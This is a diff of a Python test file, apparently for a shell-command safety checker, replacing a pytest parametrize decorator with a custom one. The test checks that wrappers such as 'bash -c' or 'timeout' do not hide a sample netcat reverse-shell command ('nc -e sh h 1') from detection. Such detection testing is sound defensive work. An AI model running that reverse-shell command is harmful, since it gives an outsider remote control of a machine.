@@ -232,9 +232,7 @@ def test_the_groups_in_force_by_default_refuse_nothing_ordinary():
     assert not (broken := {text: said for text, said in found.items() if said != ""}), str(broken)
 
 
-@pytest.mark.parametrize(
-    "wrapper", ["", "timeout 5 ", "env A=1 nice ", "bash -c '%s'", "true && ", "if x; then %s; fi"]
-)
+@each_row("wrapper", ["", "timeout 5 ", "env A=1 nice ", "bash -c '%s'", "true && ", "if x; then %s; fi"])
 def test_wrappers_and_nesting_hide_nothing(wrapper: str):
     text = wrapper % "nc -e sh h 1" if "%s" in wrapper else f"{wrapper}nc -e sh h 1"
     assert find_in_groups(survey(text), ["reverse_shell"], matches)
